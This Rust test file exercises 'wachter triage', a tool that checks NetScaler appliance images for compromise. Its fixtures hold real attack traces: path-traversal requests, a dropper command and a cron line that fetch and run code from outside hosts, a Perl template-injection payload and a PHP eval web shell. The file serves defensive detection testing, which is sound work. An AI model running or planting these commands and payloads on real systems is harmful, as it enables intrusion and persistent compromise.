//! `wachter triage` as an owner runs it: a compromised image, the same as a .tar.gz bundle,
//! a clean image full of near-misses, a folder of rotated logs, an empty folder; verdicts,
//! exit codes, hits with file and line, and the log coverage.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

mod common;
use common::*;

fn fresh(name: &str) -> PathBuf {
    let dir = work_dir().join(format!("triage-{name}"));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn put(root: &Path, path: &str, content: &[u8], mode: u32) {
    let full = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(&full, content).unwrap();
    std::fs::set_permissions(&full, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// netscaler.md Appendix C: the 12 January 2020 attack seen in the access log (C.12), the
/// NOTROBIN dropper in notice.log (C.7), the `ci.sh` cron job (C.8), the template with the
/// Perl payload (C.11), the miner, the nobody crontab (C.9) and a NOTROBIN PHP drop (C.10).
fn compromised_image(root: &Path) {
    put(
        root,
        "/var/log/httpaccess.log",
        b"198.51.100.20 - - [10/Jan/2020:08:00:00 +0000] \"GET /vpn/index.html HTTP/1.1\" 200 2048 \"-\" \"Mozilla/5.0\"\n\
193.187.174.104 - - [12/Jan/2020:11:26:02 +0000] \"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\" 200 83 \"-\"\n\
193.187.174.104 - - [12/Jan/2020:11:26:03 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 15 \"-\"\n\
193.187.174.104 - - [12/Jan/2020:11:26:11 +0000] \"GET /vpn/../vpns/portal/AOUnCfwrjIJrpngpwLXHddqADAxTraBan.xml HTTP/1.1\" 200 - \"-\"\n\
198.51.100.21 - - [20/Jan/2020:09:00:00 +0000] \"GET /vpn/index.html HTTP/1.1\" 200 2048 \"-\" \"Mozilla/5.0\"\n",
        0o600,
    );
    put(
        root,
        "/var/log/notice.log",
        b"Jan 19 23:39:59 <local7.notice> ns bash[1173]: root on (null) shell_command=\"pkill -9 netscalerd;rm /var/tmp/netscalerd; mkdir /tmp/.init; curl -k https://95.179.163.186/wp-content/uploads/2018/09/64d4c2d3ee56af4f4ca8171556d50faa -o /tmp/.init/httpd; chmod 744 /tmp/.init/httpd; echo \"* * * * * /var/nstmp/.nscache/httpd\" | crontab -; /tmp/.init/httpd &\"\"\n",
        0o644,
    );
    put(
        root,
        "/var/log/cron",
        b"Jan 19 23:00:06 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (curl http://185.178.45.221/ci.sh | sh > /dev/null 2>&1)\n\
Jan 19 23:01:05 <cron.info> Stage-NS01 /usr/sbin/cron[14605]: (root) CMD (   nsfsyncd -p)\n",
        0o644,
    );
    put(
        root,
        "/netscaler/portal/templates/bflxohnzbv.xml",
        b"<user username=\"../../../netscaler/portal/templates/bflxohnzbv\"> <bookmarks> <bookmark UI_inuse=\"a\" descr=\"desc\" title=\"[% template.new({'BLOCK'='print readpipe(chr(47) . chr(118) . chr(97))'})%]\" url=\"http://127.0.0.1\" />\n",
        0o644,
    );
    put(root, "/var/tmp/netscalerd", b"\x7fELF\x00\x00miner", 0o755);
    put(
        root,
        "/var/cron/tabs/nobody",
        b"*\t*\t*\t*\t*\tnobody\t/var/nstmp/.nscache/httpd\n",
        0o600,
    );
    put(
        root,
        "/var/vpn/theme/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.php",
        b"<?php eval($_POST['x']); ?>\n",
        0o644,
    );
}

/// A clean appliance with what looks like trouble and is not: legitimate bookmarks
/// (`bm_prefix_…`, mode 0644), the portal's own scripts and templates, `logout.pl` in the
/// access log, ordinary shell history and the default crontab.
fn clean_image(root: &Path) {
    put(
        root,
        "/var/log/httpaccess.log",
        b"198.51.100.20 - - [10/Jan/2020:08:00:00 +0000] \"GET /vpn/index.html HTTP/1.1\" 200 2048 \"-\" \"Mozilla/5.0\"\n\
198.51.100.20 - - [10/Jan/2020:08:00:05 +0000] \"POST /cgi/login HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"\n\
198.51.100.20 - - [10/Jan/2020:18:00:05 +0000] \"GET /vpns/portal/scripts/logout.pl HTTP/1.1\" 302 0 \"-\" \"Mozilla/5.0\"\n\
198.51.100.22 - - [21/Jan/2020:09:00:00 +0000] \"GET /logon/LogonPoint/index.html HTTP/1.1\" 200 4096 \"-\" \"Citrix Receiver\"\n",
        0o600,
    );
    put(
        root,
        "/var/log/httpaccess.log.1.gz",
        &gzip(b"198.51.100.23 - - [02/Jan/2020:07:00:00 +0000] \"GET /vpn/index.html HTTP/1.1\" 200 2048 \"-\" \"Mozilla/5.0\"\n"),
        0o600,
    );
    put(
        root,
        "/var/log/bash.log",
        b"Jan 19 10:12:01 <local7.notice> ns bash[2001]: nsroot on /dev/pts/0 shell_command=\"show ns ip\"\n\
Jan 19 10:12:09 <local7.notice> ns bash[2001]: nsroot on /dev/pts/0 shell_command=\"cat /var/log/ns.log | tail\"\n",
        0o644,
    );
    put(
        root,
        "/var/log/cron",
        b"Jan 19 23:01:05 <cron.info> ns /usr/sbin/cron[14605]: (root) CMD (   nsfsyncd -p)\n",
        0o644,
    );
    put(
        root,
        "/etc/crontab",
        b"SHELL=/bin/sh\nPATH=/netscaler:/etc:/bin:/sbin:/usr/bin:/usr/sbin\nHOME=/var/log\n#minute hour    mday    month   wday    who     command\n0       *       *       *       *       root    newsyslog\n0       0       *       *       *       root    purge_tickets.sh\n1,31    0-5     *       *       *       root    adjkerntz -a\n*       *       *       *       *       root    nsfsyncd -p\n49      0-23    *       *       *       root    nslog.sh dozip\n",
        0o644,
    );
    put(
        root,
        "/var/vpn/bookmark/bm_prefix_am9obkBleGFtcGxlLm9yZw==.xml",
        b"<user username=\"john@example.org\"><bookmarks><bookmark UI_inuse=\"\" descr=\"Intranet\" title=\"Intranet\" url=\"https://intranet.example.org/\" /></bookmarks></user>\n",
        0o644,
    );
    for script in ["tips.pl", "logout.pl", "newbm.pl", "rmbm.pl", "themes.pl"] {
        put(
            root,
            &format!("/netscaler/portal/scripts/{script}"),
            b"#!/usr/bin/perl\nuse strict;\nuse NetScaler::Portal;\nmy $q = NetScaler::Portal->new();\nprint $q->header();\n",
            0o444,
        );
    }
    put(
        root,
        "/netscaler/portal/templates/navthemes.tmpl",
        b"<html><body>[% theme.name %]</body></html>\n",
        0o444,
    );
}

fn triage_json(path: &Path, code: i32) -> serde_json::Value {
    let out = wachter(&["triage", path.to_str().unwrap(), "--json"]);
    assert_exit(&out, code);
    serde_json::from_slice(&out.stdout).unwrap()
}

fn hit_paths(report: &serde_json::Value, severity: &str) -> Vec<String> {
    let mut paths: Vec<String> = report["hits"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["severity"] == severity)
        .map(|h| h["path"].as_str().unwrap().to_string())
        .collect();
    paths.sort();
    paths.dedup();
    paths
}

#[test]
fn a_compromised_image_is_called_compromised_with_every_trace() {
    let root = fresh("compromised");
    compromised_image(&root);
    let report = triage_json(&root, 1);
    assert_eq!(report["verdict"], "compromised", "{report:#}");
    let compromise = hit_paths(&report, "compromise");
    for expected in [
        "/var/log/httpaccess.log",
        "/var/log/notice.log",
        "/var/log/cron",
        "/netscaler/portal/templates/bflxohnzbv.xml",
        "/var/tmp/netscalerd",
        "/var/cron/tabs/nobody",
        "/var/vpn/theme/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.php",
    ] {
        assert!(
            compromise.iter().any(|p| p == expected),
            "{expected} not among {compromise:?}"
        );
    }
    // The access-log hit names the line of the template fetch.
    let xml = report["hits"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| {
            h["path"] == "/var/log/httpaccess.log"
                && h["excerpt"]
                    .as_str()
                    .unwrap()
                    .contains("AOUnCfwrjIJrpngpwLXHddqADAxTraBan.xml")
        })
        .expect("the .xml fetch");
    assert_eq!(xml["line"], 4);
    assert!(!xml["source"].as_str().unwrap().is_empty());
    // Coverage: how far back the access log reaches.
    let access = report["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == "/var/log/httpaccess.log")
        .unwrap();
    assert_eq!(access["lines"], 5);
    assert_eq!(access["first"], "10/Jan/2020:08:00:00 +0000");
    assert_eq!(access["last"], "20/Jan/2020:09:00:00 +0000");

    // The human report says the same, verdict first.
    let out = wachter(&["triage", root.to_str().unwrap()]);
    assert_exit(&out, 1);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("verdict: COMPROMISED"), "{text}");
    assert!(text.contains("/var/log/httpaccess.log:4"), "{text}");
}

#[test]
fn the_same_evidence_as_a_tar_gz_bundle_gives_the_same_verdict() {
    let root = fresh("bundle-src");
    compromised_image(&root);
    let bundle = work_dir().join("triage-bundle.tar.gz");
    let file = std::fs::File::create(&bundle).unwrap();
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        file,
        flate2::Compression::fast(),
    ));
    tar.append_dir_all("collector_192.0.2.10_2020-01-20", &root)
        .unwrap();
    tar.into_inner().unwrap().finish().unwrap();
    let report = triage_json(&bundle, 1);
    assert_eq!(report["kind"], "tar_gz");
    assert!(
        hit_paths(&report, "compromise")
            .contains(&"/netscaler/portal/templates/bflxohnzbv.xml".to_string())
    );
}

#[test]
fn a_clean_image_full_of_near_misses_stays_clean() {
    let root = fresh("clean");
    clean_image(&root);
    let report = triage_json(&root, 0);
    assert_eq!(report["verdict"], "no_sign_of_compromise", "{report:#}");
    for severity in [
        "compromise",
        "post_exploitation",
        "successful_scanning",
        "failed_exploitation",
    ] {
        assert_eq!(
            hit_paths(&report, severity),
            Vec::<String>::new(),
            "{severity}: {report:#}"
        );
    }
    // "Clean" says how far back: both access logs, the rotated one read through gzip.
    let reason = report["reason"].as_str().unwrap();
    assert!(
        reason.contains("2020-01-02") && reason.contains("2020-01-21"),
        "{reason}"
    );
}

#[test]
fn logs_only_and_empty_evidence() {
    let logs = fresh("logs-only");
    put(
        &logs,
        "/httpaccess.log.4.gz",
        &gzip(b"127.0.0.2 - - [13/Jan/2020:08:28:31 +0000] \"GET /vpn/../vpns/portal/mWK6N4fOqFFgZ7puKwxaAVDV4Kk5zmg8.xml HTTP/1.1\" 404 48 \"-\" \"curl/7.58.0\"\n"),
        0o644,
    );
    let report = triage_json(&logs, 4);
    assert_eq!(report["verdict"], "exploitation_attempted", "{report:#}");
    assert_eq!(
        hit_paths(&report, "failed_exploitation"),
        vec!["/httpaccess.log.4.gz"]
    );

    let empty = fresh("empty");
    let report = triage_json(&empty, 5);
    assert_eq!(report["verdict"], "not_enough_data");

    let out = wachter(&["triage", "/nonexistent/evidence"]);
    assert_exit(&out, 2);
}

/// Attacks that failed are quoted in logs (a 404 to a PHP payload, an AppFirewall block in a
/// rotated ns.log): they are not files dropped on the appliance.
#[test]
fn a_blocked_attack_quoted_in_the_logs_is_not_a_compromise() {
    let root = fresh("blocked");
    clean_image(&root);
    put(
        &root,
        "/var/log/httpaccess.log.2",
        b"203.0.113.9 - - [15/Jan/2020:03:00:00 +0000] \"GET /index.php?s=@eval($_GET[1]) HTTP/1.1\" 404 196 \"-\" \"Mozilla/5.0\"\n",
        0o600,
    );
    put(
        &root,
        "/var/log/ns.log.0.gz",
        &gzip(b"Jan 15 03:00:01 <local0.info> 192.0.2.10 01/15/2020:03:00:01 GMT ns 0-PPE-0 : default APPFW APPFW_SQL 12 0 :  192.0.2.10 1-PPE0 - profile Block: blocked payload @$_POST[x] chmod u+s <blocked>\n"),
        0o600,
    );
    let report = triage_json(&root, 0);
    assert_eq!(report["verdict"], "no_sign_of_compromise", "{report:#}");
}

/// A collector's folder next to a README is still the appliance; a template that dodges
/// the content checks with a bookmark's name is caught by its name.
#[test]
fn a_collector_folder_beside_a_readme_and_a_disguised_template() {
    let root = fresh("collector");
    put(
        &root,
        "/README.txt",
        b"collected by the owner on 2020-01-20\n",
        0o644,
    );
    put(
        &root,
        "/collector_192.0.2.10/netscaler/portal/templates/bm_prefix_x.xml",
        b"<bookmark title=\"[% template.new({'BLOCK'='print readpipe(chr(105))'}) %]\"/>\n",
        0o644,
    );
    put(
        &root,
        "/collector_192.0.2.10/var/log/httpaccess.log",
        b"198.51.100.20 - - [10/Jan/2020:08:00:00 +0000] \"GET /vpn/index.html HTTP/1.1\" 200 2048 \"-\" \"Mozilla/5.0\"\n",
        0o600,
    );
    let report = triage_json(&root, 1);
    let compromise = hit_paths(&report, "compromise");
    assert_eq!(
        compromise,
        vec!["/netscaler/portal/templates/bm_prefix_x.xml"],
        "{report:#}"
    );
    assert!(
        report["hits"]
            .as_array()
            .unwrap()
            .iter()
            .any(|h| h["rule"] == "wachter/bm-prefix-outside-bookmarks")
    );
}
